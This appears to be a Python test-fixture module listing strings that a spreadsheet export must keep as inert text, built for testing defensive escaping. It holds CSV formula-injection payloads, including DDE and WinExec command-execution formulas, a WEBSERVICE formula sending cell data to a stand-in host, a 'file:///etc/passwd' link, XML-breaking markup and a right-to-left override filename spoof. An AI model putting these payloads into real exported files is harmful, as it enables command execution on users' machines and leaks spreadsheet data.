"""Texts that must stay texts: formula injection, links, markup, awkward characters."""

FORMULAS = [
    "=1+1", "==1+1", "=SUM(A1:A9)", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "  =1+1", "\u00a0=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|'x'!A0",
    "@cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"bấm\")", "=IMPORTXML(\"http://x\",1)",
    "=WEBSERVICE(\"http://x.example/?\"&A1)", "=IMAGE(\"http://x.example/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\cmd.exe'!''", "=1+1;=2+2", "a;=1+1",
    "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", "a;;=1", "a; =1", "=\"a\"", "='a'!A1", "=A1",
    "=#REF!", "=1/0", "=TRUE", "=", "+", "-", "@", "=-1", "-=1", "+-+-1", "{=1+1}", "=[1]S!A1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "'=1+1", "\"=1+1", "-2+3+cmd|' /C calc'!A0",
    "=CALL(\"Kernel32\",\"WinExec\",\"JJJ\",\"calc\",1)", "=EXEC(\"calc\")", "=RUN(1)",
    "@A1", "-@A1", "+@A1", "=@A1", "=_xlfn.CONCAT(1)", "= 1", "=\t1", "+84912345678", "-12a",
    "=LET(x,1,x)", "-1 triệu", "@handle",
    "+ Ghi chú", "- Ghi chú",
]  # fmt: skip

AWKWARD = [
    "007", "034099000007", "1E5", "1.500.000", "13/02/2026", "TRUE", "#REF!", "#N/A", "-5", "-1,5",
    "http://x.example/", "https://x.example/a b", "mailto:a@x.example", "internal:Sheet2!A1",
    "external:c:\\x.xlsx", "ftp://x.example", "file:///etc/passwd", "www.x.example",
    "<r><t>x</t></r>", "<r></r>", "<r><t>x</t></si></sst><!-- </r>", "<r>&amp;</r>", "<b>x</b>",
    "</t></is></c><c t=\"e\"><v>#REF!</v></c>", "]]>", "&lt;", "&#10;",
    "<!--", "_x000D_", "_x0041_",
    "_x005F_",
    "\x01\x02\x1f", "a\x0bb", "a\rb", "a\r\nb", "a\nb", " x", "x ", "\tx", " ", "\u200bx",
    "\u202etxt.exe",
    "Nguyễn Thị Ánh", "🙂", "\U0001f600=1", "x" * 32_000, "\"", "a\"b",
    "a,b;c\td", "'",
]  # fmt: skip
